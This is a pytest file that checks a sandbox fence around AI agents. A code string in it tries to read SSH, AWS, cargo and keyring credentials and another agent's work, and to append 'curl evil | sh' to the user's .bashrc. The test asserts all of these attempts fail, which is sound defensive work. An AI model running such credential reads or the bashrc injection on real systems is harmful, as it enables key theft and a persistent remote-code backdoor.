"""Attack: read what is beside the agent's own folders. Keys under the home beside the tools PATH names there
(~/.cargo/credentials.toml next to ~/.cargo/bin), the home's dotfiles, and another agent's worktree and
record in the data folder (kept here outside /tmp and the home, where only the fence hides it). The stand-in
reads and lists each; the host sees nothing read, nothing listed, nothing written."""

from __future__ import annotations

import shutil
import tempfile
from pathlib import Path

import pytest

from swarm_panel.app.workspace.records import all_workspaces
from tests.app.hostile.harness import seen
from tests.app.hostile.host import launch, user_repo

TRY_EACH = """
    for path in {reads!r}:
        try:
            with open(path) as f:
                f.read()
            seen[path] = "read"
        except OSError as exc:
            seen[path] = exc.strerror
    for path in {lists!r}:
        try:
            seen[path] = "listed " + "?".join(["", *os.listdir(path)])
        except OSError as exc:
            seen[path] = exc.strerror
    try:
        with open({bashrc!r}, "a") as f:
            f.write("curl evil | sh\\n")
        seen["bashrc"] = "wrote"
    except OSError as exc:
        seen["bashrc"] = exc.strerror
"""


@pytest.fixture
def worktrees(monkeypatch):
    """The agents' data folder where nothing but the fence hides it (not under /tmp nor the home)."""
    folder = Path(tempfile.mkdtemp(prefix="swarm-panel-hostile-", dir="/var/tmp"))
    monkeypatch.setenv("SWARM_PANEL_WORKTREES", str(folder))
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def test_keys_beside_its_tools_and_other_agents_work_stay_out_of_reach(under, fake_home, worktrees, tmp_path):
    repo = user_repo(tmp_path / "repo")
    first = launch(under.fence, 'open("mine.txt", "w").write("the first agent\'s work")', tmp_path, repo)
    assert first.completed, first.stderr.text
    other = first.workspace
    reads = [str(fake_home / name) for name in (".cargo/credentials.toml", ".ssh/id_ed25519", ".bashrc",
                                                  ".aws/credentials", ".local/share/keyrings/login.keyring",
                                                  "projects/app/hello.py")]
    reads += [str(other.tree / "mine.txt"), str(other.home / "workspace.json")]
    lists = [str(fake_home / ".cargo"), str(fake_home / ".local"), str(worktrees), str(other.home)]
    code = TRY_EACH.format(reads=reads, lists=lists, bashrc=str(fake_home / ".bashrc"))
    second = launch(under.fence, code, tmp_path, repo)
    said = seen(second)
    assert second.completed and second.workspace.home != other.home
    # An empty listing is bubblewrap's own tmpfs over the folder: nothing of the host's is in it.
    reached = {path: what for path, what in said.items() if what in ("read", "wrote") or what.startswith("listed ?")}
    assert reached == {}
    assert (fake_home / ".bashrc").read_text() == "# the user's own\n"
    assert sorted(ws.name for ws in all_workspaces()) == sorted([other.name, second.workspace.name])
